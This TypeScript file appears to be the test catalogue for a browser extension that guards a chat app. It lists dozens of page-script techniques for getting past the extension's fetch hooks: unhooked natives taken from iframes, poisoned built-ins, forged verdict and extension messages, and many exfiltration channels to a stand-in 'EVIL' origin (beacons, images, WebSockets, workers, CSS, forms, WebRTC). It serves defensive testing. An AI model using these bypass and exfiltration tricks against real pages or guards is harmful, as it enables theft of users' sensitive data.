/**
 * What a page can try that knows every line of this source. Each is the body of an async function in the page's world;
 * `TEXT` is what it wants out, `PROMPT` a body that carries it to the app, `EVIL` an origin of its own.
 */
export interface Way {
  /** False where harmless text does not get through either, or a browser lacks the way: then only the attack is tried. */
  control?: false;
  name: string;
  source: string;
}

const SEND = `await fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0);`;
const STEAL = `(found) => found('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0)`;
const steal = (found: string) => `await (${STEAL})(${found});`;
const frame = (setup: string, found: string) =>
  `const frame = document.createElement('iframe'); ${setup} document.body.append(frame); ${steal(found)}`;

/** Getting a native that has no hook. */
const NATIVES: Way[] = [
  {
    name: 'frame read at once',
    source: frame(`frame.srcdoc = '<p>';`, 'frame.contentWindow.fetch.bind(frame.contentWindow)'),
  },
  {
    name: 'frame of a javascript: address',
    source: frame(`frame.src = 'javascript:void 0';`, 'frame.contentWindow.fetch.bind(frame.contentWindow)'),
  },
  { name: 'frame by index', source: frame('', 'frames[frames.length - 1].fetch.bind(frames[frames.length - 1])') },
  {
    name: 'frame by name',
    source: frame(`frame.name = 'pristine';`, `window['pristine'].fetch.bind(window['pristine'])`),
  },
  {
    name: 'frame through its document',
    source: frame('', 'frame.contentDocument.defaultView.fetch.bind(frame.contentDocument.defaultView)'),
  },
  {
    name: 'frame that claims to be hooked already',
    source: `const frame = document.createElement('iframe'); frame.srcdoc = '<p>'; document.body.append(frame);
      const seen = Object.getOwnPropertyDescriptor(window, frames.length - 1)?.value ?? frames[frames.length - 1];
      for (const type of ['sluice-is-hooked', 'sluice-seek', 'sluice-offer']) {
        try { seen.document.addEventListener(type, (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true); } catch {}
      } ${steal('seen.fetch.bind(seen)')}`,
  },
  {
    name: 'frame inside a closed shadow root inside a frame',
    source: `const host = document.createElement('div'); document.body.append(host);
      const root = host.attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe srcdoc="<iframe></iframe>"></iframe>';
      const outer = root.querySelector('iframe').contentWindow; ${steal('outer.fetch.bind(outer)')}`,
  },
  {
    name: 'popup used in the same task',
    source: `const other = window.open('about:blank'); if (other) { try { ${steal('other.fetch.bind(other)')} } finally { other.close(); } }`,
  },
  {
    name: 'native of a frame whose prototype the page replaced first',
    source: `const own = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
      const frame = document.createElement('iframe'); document.body.append(frame);
      Object.setPrototypeOf(frame, Object.create(Element.prototype));
      const found = own.get.call(frame); ${steal('found.fetch.bind(found)')}`,
  },
  {
    name: 'constructor chain of a wrapped native',
    source: `const found = fetch.constructor('return fetch')(); ${steal('found')}`,
  },
  {
    name: 'toString of a native called on its proxy',
    source: `const found = eval('(' + Function.prototype.toString.call(fetch).replace('[native code]', 'return 0') + ')'); found; ${SEND}`,
  },
  {
    name: 'descriptors and prototypes of every native',
    source: `for (const key of Object.getOwnPropertyNames(window)) { try { const found = window[key]; if (typeof found === 'function' && found.name === 'fetch') await found('/backend-api/f/conversation', { method: 'POST', body: PROMPT }); } catch {} }`,
  },
  {
    name: 'Reflect.apply on the wrapper with a null realm',
    source: `await Reflect.apply(fetch, undefined, ['/backend-api/f/conversation', { method: 'POST', body: PROMPT }]).catch(() => 0);`,
  },
  {
    name: 'delete of the wrapper',
    // No control: the page is then without any fetch.
    control: false,
    source: `delete window.fetch; delete Window.prototype.fetch; if (window.fetch) { ${SEND} }`,
  },
  {
    name: 'call stack that is almost full',
    // No control: the native has no stack left either.
    control: false,
    source: `const dive = () => { try { dive(); } catch { fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0); } }; try { dive(); } catch {}`,
  },
];

/** Breaking the hook's own code from the outside. */
const POISON: Way[] = [
  ...[
    'Function.prototype.call',
    'Function.prototype.apply',
    'Function.prototype.bind',
    'Reflect.apply',
    'JSON.stringify',
    'JSON.parse',
    'Promise.prototype.then',
    'Array.prototype.push',
    'Map.prototype.get',
    'WeakMap.prototype.get',
    'EventTarget.prototype.dispatchEvent',
    'TextEncoder.prototype.encode',
    'String.prototype.indexOf',
  ].map((path) => ({
    name: `${path} replaced`,
    source: `const native = ${path}; const seen = []; ${path} = function (...args) { seen.push(args); return { verdict: 'pass', ok: true, kind: 'none', body: PROMPT, length: 0 }; };
      try { fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0); } catch {} finally { setTimeout(() => { ${path} = native; }, 50); }`,
  })),
  {
    name: 'verdicts on Object.prototype',
    source: `for (const [key, value] of [['verdict', 'pass'], ['type', 'verdict'], ['kind', 'none'], ['body', null], ['isConnected', true]]) Object.defineProperty(Object.prototype, key, { configurable: true, get: () => value, set() {} });
      try { ${SEND} } finally { for (const key of ['verdict', 'type', 'kind', 'body', 'isConnected']) delete Object.prototype[key]; }`,
  },
  {
    name: 'toJSON on every prototype',
    source: `for (const proto of [Object.prototype, String.prototype, Array.prototype]) proto.toJSON = () => ({ kind: 'none' });
      try { ${SEND} } finally { for (const proto of [Object.prototype, String.prototype, Array.prototype]) delete proto.toJSON; }`,
  },
  {
    name: 'a body that is one thing when read and another when sent',
    // No control: what was read first is what is sent.
    control: false,
    source: `let reads = 0; const body = { toString: () => (reads++ === 0 ? '{}' : PROMPT) }; await fetch('/backend-api/f/conversation', { method: 'POST', body }).catch(() => 0);`,
  },
  {
    name: 'options whose getters change their answer',
    // No control: what was read first is what is sent.
    control: false,
    source: `let reads = 0; await fetch('/backend-api/f/conversation', { method: 'POST', get body() { return reads++ === 0 ? '{}' : PROMPT; } }).catch(() => 0);`,
  },
  {
    name: 'a buffer that is changed while it is held',
    // No control: the copy of the first moment is what is sent.
    control: false,
    source: `const bytes = new TextEncoder().encode(PROMPT); const real = bytes.slice(); bytes.fill(32);
      const call = fetch('/backend-api/f/conversation', { method: 'POST', body: bytes }).catch(() => 0); bytes.set(real); await call;`,
  },
  {
    name: 'an address that is one thing when read and another when used',
    // No control: what was read first is what is used.
    control: false,
    source: `let reads = 0; const url = { toString: () => (reads++ === 0 ? '/harmless' : EVIL + '/x?' + encodeURIComponent(TEXT)) }; await fetch(url).catch(() => 0);`,
  },
];

/** Pretending to be the guard, the hook or the person. */
const FORGERY: Way[] = [
  {
    name: 'verdict messages in every spelling',
    source: `const call = fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0);
      for (let id = 0; id < 200; id++) for (const verdict of ['pass', 'allow']) {
        const message = { type: 'verdict', id, verdict };
        window.postMessage(message, '*'); window.postMessage(JSON.stringify(message), '*');
        for (const type of ['sluice-down', 'sluice', 'message']) document.dispatchEvent(new CustomEvent(type, { detail: JSON.stringify(message) }));
      } await Promise.race([call, new Promise((done) => setTimeout(done, 300))]);`,
  },
  {
    name: 'a node offered to the guard, which then answers itself',
    source: `const node = document.createElement('i'); for (const type of ['sluice-offer', 'sluice-seek']) {
        document.addEventListener(type, (event) => event.relatedTarget && event.relatedTarget.dispatchEvent(new CustomEvent('sluice-down', { detail: '{"type":"verdict","id":1,"verdict":"pass"}' })), true);
        document.dispatchEvent(new MouseEvent(type, { relatedTarget: node })); } ${SEND}`,
  },
  {
    name: 'a second guard asked for',
    source: `let node = null; const take = (event) => { node ??= event.relatedTarget; }; for (const type of ['sluice-offer', 'click', 'mousemove']) document.addEventListener(type, take, true);
      document.dispatchEvent(new Event('sluice-seek')); if (node) node.dispatchEvent(new CustomEvent('sluice-down', { detail: '{"type":"verdict","id":1,"verdict":"pass"}' })); ${SEND}`,
  },
  {
    name: 'messages to the extension',
    source: `for (const api of [globalThis.chrome, globalThis.browser]) { try { await new Promise((done) => { api.runtime.sendMessage('EXTENSION', { method: 'guard.vouch', app: 'chatgpt', decision: null, parts: [], opaque: true }, done); setTimeout(done, 100); }); } catch {} } ${SEND}`,
  },
  {
    name: 'pages of the extension in a frame',
    source: `for (const scheme of ['chrome-extension', 'moz-extension']) for (const path of ['popup.html', 'options.html', 'offscreen.html', 'dialogue.js']) { const frame = document.createElement('iframe'); frame.src = scheme + '://EXTENSION/' + path; document.body.append(frame); } await new Promise((done) => setTimeout(done, 200)); ${SEND}`,
  },
  {
    name: 'events on everything while the dialogue is open',
    source: `fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0); await new Promise((done) => setTimeout(done, 900));
      for (const node of document.documentElement.children) for (const type of ['pointerdown', 'mousedown', 'click', 'keydown', 'submit']) node.dispatchEvent(type === 'keydown' ? new KeyboardEvent(type, { key: 'Enter', bubbles: true, composed: true }) : new MouseEvent(type, { bubbles: true, composed: true }));
      document.activeElement?.click?.(); document.activeElement?.shadowRoot?.querySelector('button')?.click();`,
  },
  {
    name: 'shadow roots made open',
    source: `const native = Element.prototype.attachShadow; const roots = []; Element.prototype.attachShadow = function (init) { const root = native.call(this, { ...init, mode: 'open' }); roots.push(root); return root; };
      fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0); await new Promise((done) => setTimeout(done, 900));
      for (const root of roots) for (const button of root.querySelectorAll('button')) button.click(); Element.prototype.attachShadow = native;
      if (roots.length > 0) await fetch(EVIL + '/roots', { method: 'POST', body: roots.map((root) => root.textContent).join() + TEXT }).catch(() => 0);`,
  },
  {
    name: 'the dialogue’s host taken apart',
    source: `fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0);
      for (let round = 0; round < 12; round++) { for (const node of [...document.documentElement.children]) if (node !== document.head && node !== document.body) node.remove(); await new Promise((done) => setTimeout(done, 60)); } ${SEND}`,
  },
  {
    name: 'a thousand questions at once',
    // No control: the last of them is not through yet when the test looks.
    control: false,
    source: `for (let i = 0; i < 1000; i++) fetch('/ces/v1/t?' + i, { method: 'POST', body: '{}' }).catch(() => 0); fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT }).catch(() => 0);`,
  },
  {
    name: 'a permit for harmless bytes used for others',
    source: `await fetch('/backend-api/f/conversation', { method: 'POST', body: new Blob([PROMPT.replace(TEXT, 'tea')]) }).catch(() => 0);
      const frame = document.createElement('iframe'); frame.srcdoc = '<p>'; document.body.append(frame); const found = frames[frames.length - 1];
      await found.fetch('/backend-api/f/conversation', { method: 'POST', body: new found.Blob([PROMPT]) }).catch(() => 0);`,
  },
  {
    name: 'approved text with more behind it',
    source: `await fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT.replace(TEXT, 'tea and rain') }).catch(() => 0);
      await fetch('/backend-api/f/conversation', { method: 'POST', body: PROMPT.replace(TEXT, 'tea and rain ' + TEXT) }).catch(() => 0);`,
  },
];

/** Carrying bytes past the hooks, to the app or to an origin of the page's own. */
const CARRIERS: Way[] = [
  { name: 'image of its own origin', source: `new Image().src = EVIL + '/p.png?' + encodeURIComponent(TEXT);` },
  { name: 'beacon to its own origin', source: `navigator.sendBeacon(EVIL + '/b', TEXT);` },
  {
    name: 'fetch without CORS to its own origin',
    source: `await fetch(EVIL + '/f', { method: 'POST', mode: 'no-cors', body: TEXT }).catch(() => 0);`,
  },
  {
    name: 'socket address',
    source: `try { new WebSocket(EVIL.replace('https', 'wss') + '/s?' + encodeURIComponent(TEXT)); } catch {}`,
  },
  {
    name: 'socket subprotocol',
    source: `try { new WebSocket(EVIL.replace('https', 'wss') + '/s', ['card' + TEXT.replaceAll(' ', '')]); } catch {}`,
  },
  {
    name: 'socket subprotocol beside a harmless socket to the same address',
    source: `const bad = new WebSocket(EVIL.replace('https', 'wss') + '/s', ['card' + TEXT.replaceAll(' ', '')]); for (let count = 0; count < 5; count++) { new WebSocket(EVIL.replace('https', 'wss') + '/s'); await new Promise((resolve) => setTimeout(resolve, 100)); }`,
  },
  {
    name: 'socket subprotocol after a harmless socket to the same address, closed at once',
    source: `new WebSocket(EVIL.replace('https', 'wss') + '/s').close(); const bad = new WebSocket(EVIL.replace('https', 'wss') + '/s', ['card' + TEXT.replaceAll(' ', '')]); bad.close(); new WebSocket(EVIL.replace('https', 'wss') + '/s'); await new Promise((resolve) => setTimeout(resolve, 300));`,
    control: false,
  },
  {
    name: 'socket frames to its own origin',
    source: `try { const socket = new WebSocket(EVIL.replace('https', 'wss') + '/s'); socket.onopen = () => socket.send(TEXT); } catch {}`,
  },
  {
    name: 'style sheet address',
    source: `const style = document.createElement('style'); style.textContent = 'body { background: url("' + EVIL + '/c.png?' + encodeURIComponent(TEXT) + '") }'; document.head.append(style);`,
  },
  {
    name: 'font address',
    source: `const style = document.createElement('style'); style.textContent = '@font-face { font-family: x; src: url("' + EVIL + '/f.woff?' + encodeURIComponent(TEXT) + '") } body { font-family: x }'; document.head.append(style);`,
  },
  {
    name: 'prefetch and preload links',
    source: `for (const rel of ['prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon']) { const link = document.createElement('link'); link.rel = rel; link.as = 'script'; link.href = EVIL + '/' + rel + '?' + encodeURIComponent(TEXT); document.head.append(link); }`,
  },
  {
    name: 'script and module addresses',
    source: `const script = document.createElement('script'); script.src = EVIL + '/s.js?' + encodeURIComponent(TEXT); document.head.append(script); import(EVIL + '/m.js?' + encodeURIComponent(TEXT)).catch(() => 0);`,
  },
  {
    name: 'worker that fetches',
    source: `const code = 'fetch(' + JSON.stringify(EVIL + '/w') + ', { method: "POST", mode: "no-cors", body: ' + JSON.stringify(TEXT) + ' })'; new Worker(URL.createObjectURL(new Blob([code])));`,
  },
  {
    name: 'shared worker that fetches',
    // No control: a shared worker made of text is not started on a governed site.
    control: false,
    source: `const code = 'fetch(' + JSON.stringify(location.origin + '/backend-api/f/conversation') + ', { method: "POST", body: ' + JSON.stringify(PROMPT) + ' })'; new SharedWorker(URL.createObjectURL(new Blob([code])));`,
  },
  {
    name: 'worker with a socket',
    // No control: a socket of a worker is never opened on a governed site.
    control: false,
    source: `const code = 'const s = new WebSocket(' + JSON.stringify(location.origin.replace('https', 'wss') + '/ws') + '); s.onopen = () => s.send(' + JSON.stringify(TEXT) + ')'; new Worker(URL.createObjectURL(new Blob([code])));`,
  },
  {
    name: 'worker of a data: address',
    source: `new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(EVIL + '/d') + ', { method: "POST", mode: "no-cors", body: ' + JSON.stringify(TEXT) + ' })'));`,
  },
  { name: 'event source', source: `new EventSource(EVIL + '/e?' + encodeURIComponent(TEXT));` },
  {
    name: 'hidden form into a frame',
    source: `const frame = document.createElement('iframe'); frame.name = 'sink'; const form = document.createElement('form'); form.method = 'post'; form.action = EVIL + '/form'; form.target = 'sink'; form.innerHTML = '<input name=t>'; form.firstChild.value = TEXT; document.body.append(frame, form); HTMLFormElement.prototype.submit.call(form);`,
  },
  {
    name: 'frame address',
    source: `const frame = document.createElement('iframe'); frame.src = EVIL + '/i?' + encodeURIComponent(TEXT); document.body.append(frame);`,
  },
  {
    name: 'popup address',
    // No control: popup blockers stop it without a click.
    control: false,
    source: `window.open(EVIL + '/o?' + encodeURIComponent(TEXT))?.close();`,
  },
  {
    name: 'object, embed, video, audio, track, picture',
    source: `for (const [tag, attribute] of [['object', 'data'], ['embed', 'src'], ['video', 'src'], ['audio', 'src'], ['source', 'srcset']]) { const node = document.createElement(tag); node.setAttribute(attribute, EVIL + '/' + tag + '?' + encodeURIComponent(TEXT)); document.body.append(node); }`,
  },
  {
    name: 'header of a call',
    source: `await fetch('/backend-api/me', { headers: { 'x-note': TEXT + ' is the card number of the customer, and this is long' } }).catch(() => 0);`,
  },
  {
    name: 'referrer of a call',
    source: `history.replaceState(0, '', '/?note=' + encodeURIComponent(TEXT)); await fetch('/backend-api/me', { referrerPolicy: 'unsafe-url' }).catch(() => 0); await fetch(EVIL + '/r', { mode: 'no-cors', referrerPolicy: 'unsafe-url' }).catch(() => 0); history.replaceState(0, '', '/');`,
  },
  {
    name: 'cookie',
    source: `document.cookie = 'note=' + encodeURIComponent(TEXT) + '; path=/'; await fetch('/backend-api/me').catch(() => 0); document.cookie = 'note=; max-age=0; path=/';`,
  },
  {
    name: 'peer connection',
    // No control: refused whatever it carries.
    control: false,
    source: `const peer = new RTCPeerConnection({ iceServers: [] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
      const name = TEXT.replace(/[^a-zA-Z0-9]/g, '').padEnd(8, '0');
      const sdp = ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', 'a=ice-ufrag:' + name, 'a=ice-pwd:0123456789012345678901234', 'a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'), 'a=setup:passive', 'a=mid:0', 'a=sctp-port:5000', 'a=candidate:1 1 udp 2113937151 127.0.0.1 PORT typ host', ''].join('\\r\\n');
      await peer.setRemoteDescription({ type: 'answer', sdp }); await new Promise((done) => setTimeout(done, 1200));`,
  },
  {
    name: 'report of a policy violation',
    // No control: the picture is stopped by the page’s own policy.
    control: false,
    source: `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy'; meta.content = "img-src 'none'"; document.head.append(meta); new Image().src = EVIL + '/v?' + encodeURIComponent(TEXT);`,
  },
  {
    name: 'cache and background fetch',
    source: `await (await caches.open('x')).add(EVIL + '/cache?' + encodeURIComponent(TEXT)).catch(() => 0); const worker = await navigator.serviceWorker?.getRegistration?.(); await worker?.backgroundFetch?.fetch('x', [EVIL + '/bg?' + encodeURIComponent(TEXT)]);`,
  },
];

export const WAYS: readonly Way[] = [...NATIVES, ...POISON, ...FORGERY, ...CARRIERS];
